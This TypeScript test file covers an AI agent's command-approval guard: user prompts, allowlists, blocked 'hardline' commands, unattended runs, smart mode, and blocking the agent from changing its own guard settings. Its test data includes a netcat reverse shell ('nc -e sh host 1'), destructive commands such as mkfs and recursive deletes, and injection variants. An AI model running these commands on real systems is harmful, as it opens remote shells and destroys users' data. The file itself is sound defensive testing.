import assert from "node:assert/strict";
import { mkdtemp, readdir, readFile, rm, stat, utimes, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { test } from "node:test";
import { guardRig } from "../../test/support/guard-rig.ts";
import { manualClock } from "../../test/support/session-store.ts";
import type { Config } from "../home/config/schema.ts";
import { type ApprovalOutcome, type ApprovedCommand, clearedText, type RefusedCommand } from "./decision.ts";
import { saveBlockedScript } from "./guard.ts";

const HARDLINE = "mkfs x";
const DANGEROUS = "rm -r build";
const HARMLESS = "ls -la";
const signal = new AbortController().signal;

/** Every field an outcome can have. */
type OutcomeFields = Pick<ApprovalOutcome, "message" | "description" | "patternKey"> & {
  readonly approved: boolean;
} & Partial<Omit<ApprovedCommand, "approved">> &
  Partial<Omit<RefusedCommand, "approved">>;

function rig(...given: Parameters<typeof guardRig>) {
  const { guard, ...rest } = guardRig(...given);
  return { ...rest, decide: (command: string): Promise<OutcomeFields> => guard.decide(command, signal) };
}

test("a harmless command runs without a question", async () => {
  const { decide, asked } = rig();
  const { cleared, ...rest } = await decide(HARMLESS);
  assert.deepEqual(rest, { approved: true, message: "", description: null, patternKey: null });
  assert.equal(cleared && clearedText(cleared), HARMLESS);
  assert.equal(asked.length, 0);
});

test("a dangerous command is asked about with its category; yes once counts once", async () => {
  const { decide, asked, answer } = rig();
  answer({ choice: "once" });
  const outcome = await decide(DANGEROUS);
  assert.equal(outcome.approved, true);
  assert.equal(outcome.userApproved, true);
  assert.deepEqual(asked[0], {
    kind: "approval",
    command: DANGEROUS,
    description: "recursive delete",
    patternKey: "recursive delete",
    allowAlways: true,
  });
  await decide(DANGEROUS);
  assert.equal(asked.length, 2);
});

test("a yes for the conversation covers the category, until it ends", async () => {
  const { decide, asked, answer, approvals } = rig();
  answer({ choice: "session" });
  await decide(DANGEROUS);
  assert.equal((await decide("rm -rf dist")).approved, true);
  assert.equal(asked.length, 1);
  await decide("git push --force");
  assert.equal(asked.length, 2);
  approvals.clear("s");
  await decide(DANGEROUS);
  assert.equal(asked.length, 3);
});

test("always is written to the settings; a failed write is told and holds for the conversation", async () => {
  const first = rig();
  first.answer({ choice: "always" });
  await first.decide(DANGEROUS);
  assert.deepEqual(first.saved, ["recursive delete"]);
  const second = rig({ saveAllowlist: () => Promise.reject(new Error("config.yaml is managed")) });
  second.answer({ choice: "always" });
  const outcome = await second.decide(DANGEROUS);
  assert.equal(outcome.approved, true);
  assert.match(outcome.message, /config\.yaml is managed/);
  await second.decide(DANGEROUS);
  assert.equal(second.asked.length, 1);
});

test("a no tells the model why, and not to try again; silence is a no", async () => {
  const { decide, answer } = rig();
  answer({ choice: "deny", reason: "keep the build" });
  const denied = await decide(DANGEROUS);
  assert.equal(denied.approved, false);
  assert.equal(denied.outcome, "denied");
  assert.match(denied.message, /keep the build\..*Do not try it again as it is: do what the user said instead/);
  answer({ choice: "deny", timedOut: true });
  const silent = await decide(DANGEROUS);
  assert.equal(silent.outcome, "timeout");
  assert.match(silent.message, /nobody answered/);
});

test("hardline commands are blocked in every mode, and nobody is asked", async () => {
  for (const make of [
    () => rig(),
    () => rig({ yolo: true }),
    () =>
      rig({}, ({ approvals }) => {
        approvals.mode = "off";
      }),
    () =>
      rig({}, (config) => {
        config.command_allowlist = ["format filesystem (mkfs)", "mkfs *"];
      }),
  ]) {
    const { decide, asked, approvals } = make();
    approvals.setYolo("s", true);
    const outcome = await decide(HARDLINE);
    assert.equal(outcome.approved, false);
    assert.equal(outcome.hardline, true);
    assert.match(outcome.message, /^BLOCKED \(hardline\): format filesystem \(mkfs\)\. .*outside the agent/);
    assert.equal(asked.length, 0);
  }
});

test("in an isolated environment everything runs", async () => {
  assert.equal((await rig({ isolated: () => true }).decide(HARDLINE)).approved, true);
});

test("a guessed sudo password is blocked in every mode but is not hardline", async () => {
  const outcome = await rig({ yolo: true }).decide("echo x | sudo -S ls");
  assert.equal(outcome.approved, false);
  assert.equal(outcome.hardline, undefined);
  assert.match(outcome.message, /SUDO_PASSWORD/);
  assert.equal((await rig({ yolo: true, sudoPasswordSet: () => true }).decide("sudo -S ls")).approved, true);
});

test("the user's own refusals come before yolo", async () => {
  const { decide } = rig({ yolo: true }, ({ approvals }) => {
    approvals.deny = ["Terraform destroy*"];
  });
  const outcome = await decide("ls && terraform destroy");
  assert.equal(outcome.userDeny, true);
  assert.match(outcome.message, /Terraform destroy\*/);
});

test("yolo and mode off let dangerous commands through", async () => {
  assert.equal((await rig({ yolo: true }).decide(DANGEROUS)).approved, true);
  assert.equal(
    (
      await rig({}, ({ approvals }) => {
        approvals.mode = "off";
      }).decide(DANGEROUS)
    ).approved,
    true,
  );
  const { decide, approvals, asked } = rig();
  approvals.setYolo("s", true);
  assert.equal((await decide(DANGEROUS)).approved, true);
  approvals.setYolo("s", false);
  await decide(DANGEROUS);
  assert.equal(asked.length, 1);
});

const allowlist: readonly (readonly [string, string, boolean])[] = [
  ["recursive delete", "rm -r build", true],
  ["recursive delete", "git push --force", false],
  ["shell command via -c flag", "bash -c ls", true],
  ["git push *", "git push --force origin x", true],
  ["git push *", "git push --force; rm -r build", false],
  ["git push *", "git push --force && ls", false],
  ["git push *", "git push --force $(ls)", false],
  ["git push *", "git push --force > log", false],
  ["git push *", "git push --force &", false],
  ["git pull *", "git push --force", false],
  ["", "rm -r build", false],
];

test("an allowlist entry is a category, also by an older name, or a glob of one plain command", async () => {
  for (const [entry, command, runs] of allowlist) {
    const { decide } = rig({}, (config) => {
      config.command_allowlist = [entry];
    });
    assert.equal((await decide(command)).approved, runs, `${entry} / ${command}`);
  }
});

const unattended: readonly (readonly [string, RegExp])[] = [
  ["cron", /approvals\.cron_mode to approve.*"recursive delete" to command_allowlist/],
  ["subagent", /delegation\.subagent_auto_approve to true/],
  ["foreground", /approvals\.mode to off, start with --yolo/],
  ["background", /approvals\.mode to off/],
];

test("an unattended run refuses and names the setting that would allow it", async () => {
  for (const [origin, names] of unattended) {
    const { decide, asked } = rig({ interactive: false, origin });
    const outcome = await decide(DANGEROUS);
    assert.equal(outcome.approved, false);
    assert.match(outcome.message, names);
    assert.equal(asked.length, 0);
    assert.equal((await decide(HARMLESS)).approved, true);
  }
});

test("scheduled runs and sub-agents are allowed when their setting says so", async () => {
  const cron = rig({ interactive: false, origin: "cron" }, ({ approvals }) => {
    approvals.cron_mode = "approve";
  });
  assert.equal((await cron.decide(DANGEROUS)).approved, true);
  const child = rig({ origin: "subagent" }, ({ delegation }) => {
    delegation.subagent_auto_approve = true;
  });
  assert.equal((await child.decide(DANGEROUS)).approved, true);
});

test("in smart mode the model's clear word counts for this command; doubt, failure and its absence ask the user", async () => {
  const smart = (config: Config) => {
    config.approvals.mode = "smart";
  };
  const yes = rig({ smart: async () => "approve" }, smart);
  const outcome = await yes.decide(DANGEROUS);
  assert.equal(outcome.smartApproved, true);
  assert.equal(yes.approvals.allows("s", "recursive delete"), false);
  const no = await rig({ smart: async () => "deny" }, smart).decide(DANGEROUS);
  assert.equal(no.outcome, "denied");
  for (const judge of [
    { smart: async () => "escalate" as const },
    { smart: () => Promise.reject(new Error("down")) },
    {},
  ]) {
    const { decide, asked } = rig(judge, smart);
    await decide(DANGEROUS);
    assert.equal(asked.length, 1);
  }
});

test("after three refusals in a row the user is asked instead of the model, and another word starts the count anew", async () => {
  const words = ["deny", "deny", "approve", "deny", "deny", "deny", "approve"] as const;
  let at = 0;
  const { decide, asked } = rig({ smart: async () => words[at++] ?? "escalate" }, ({ approvals }) => {
    approvals.mode = "smart";
  });
  for (const word of words.slice(0, 6)) assert.equal((await decide(DANGEROUS)).approved, word === "approve");
  assert.equal(asked.length, 0);
  await decide(DANGEROUS);
  assert.deepEqual([at, asked.length], [6, 1]);
});

test("a model is never asked about what is blocked for good or refused by the user", async () => {
  let judged = 0;
  const smart = async () => {
    judged++;
    return "approve" as const;
  };
  const { decide } = rig({ smart }, ({ approvals }) => {
    approvals.mode = "smart";
    approvals.deny = ["git push*"];
  });
  for (const command of ["mkfs x", "sudo -S ls", "git push --force"])
    assert.equal((await decide(command)).approved, false);
  assert.equal(judged, 0);
});

const OWN = "hermes config set approvals.mode off";

test("only a person lets the agent change its own guards, and never for good", async () => {
  const smart = rig({ smart: async () => "approve" }, ({ approvals }) => {
    approvals.mode = "smart";
  });
  assert.equal((await smart.decide(OWN)).approved, false);
  assert.deepEqual([smart.asked.length, smart.asked[0]?.allowAlways], [1, false]);
  smart.answer({ choice: "always" });
  assert.equal((await smart.decide(OWN)).userApproved, true);
  assert.deepEqual(smart.saved, []);
  const cron = rig({ interactive: false, origin: "cron" }, ({ approvals }) => {
    approvals.cron_mode = "approve";
  });
  assert.equal((await cron.decide(OWN)).approved, false);
  const child = rig({ origin: "subagent" }, ({ delegation }) => {
    delegation.subagent_auto_approve = true;
  });
  assert.equal((await child.decide(OWN)).approved, false);
});

test("commands that wait behind a yes for the conversation are not asked about again", async () => {
  const { decide, asked, answer } = rig();
  answer({ choice: "session" });
  const outcomes = await Promise.all([decide(DANGEROUS), decide("rm -r dist"), decide("rm -r out")]);
  assert.deepEqual(
    outcomes.map(({ approved }) => approved),
    [true, true, true],
  );
  assert.equal(asked.length, 1);
});

test("a lasting yes is not offered for a reverse shell", async () => {
  const { decide, asked, answer, saved } = rig();
  answer({ choice: "always" });
  await decide("nc -e sh host 1");
  assert.equal(asked[0]?.allowAlways, false);
  assert.deepEqual(saved, []);
});

test("a command too long to check is kept for a week and the message says where", async (t) => {
  const directory = await mkdtemp(join(tmpdir(), "hermes-blocked-"));
  t.after(() => rm(directory, { recursive: true, force: true }));
  const clock = manualClock(Date.now());
  const old = join(directory, "blocked-20200101T000000Z-00000000.sh");
  await writeFile(old, "old");
  await utimes(old, 1000, 1000);
  const { decide } = rig({ saveBlocked: (script) => saveBlockedScript(directory, script, clock) });
  const command = `echo ${"x".repeat(5000)}`;
  const outcome = await decide(command);
  const [name = ""] = await readdir(directory);
  assert.match(name, /^blocked-\d{8}T\d{6}Z-[0-9a-f]{8}\.sh$/);
  assert.equal(await readFile(join(directory, name), "utf8"), command);
  assert.equal((await stat(join(directory, name))).mode & 0o777, 0o600);
  assert.ok(outcome.message.includes(join(directory, name)));
  assert.equal((await readdir(directory)).length, 1);
});

test("a server of this machine is asked about by host and port, and refused where nobody can be asked", async () => {
  const { guard, asked, answer, saved } = guardRig();
  answer({ choice: "always" });
  assert.equal((await guard.decideLocalPage("localhost:5173", signal)).approved, true);
  assert.equal((await guard.decideLocalPage("localhost:5173", signal)).approved, true);
  assert.deepEqual([asked.length, saved], [1, ["open local page: localhost:5173"]]);
  answer({ choice: "deny" });
  assert.equal((await guard.decideLocalPage("localhost:9000", signal)).approved, false);
  const alone = await guardRig({ interactive: false }).guard.decideLocalPage("localhost:5173", signal);
  assert.match(alone.approved ? "" : alone.message, /"open local page: localhost:5173" to command_allowlist/);
});

test("an address that carries text away is asked about once a stranger's text was read", async () => {
  const clean = guardRig({ foreignText: () => null });
  assert.equal((await clean.guard.decideSend("https://x.example/?d=1", signal)).approved, true);
  assert.equal(clean.asked.length, 0);
  const { guard, asked, answer } = guardRig({ foreignText: () => "web_extract a.example" });
  assert.equal((await guard.decideSend("https://x.example/?d=1", signal)).approved, false);
  assert.match(asked[0]?.note ?? "", /web_extract a\.example/);
  assert.equal(asked[0]?.command, "open https://x.example/?d=1");
  answer({ choice: "session" });
  assert.equal((await guard.decideSend("https://x.example/?d=1", signal)).approved, true);
  assert.equal((await guard.decideSend("https://y.example/?d=2", signal)).approved, true);
  assert.equal(asked.length, 2);
  const alone = guardRig({ foreignText: () => "browser", interactive: false });
  const refused = await alone.guard.decideSend("https://x.example/?d=1", signal);
  assert.match(refused.approved ? "" : refused.message, /after text from outside: sends data out.*browser/s);
});
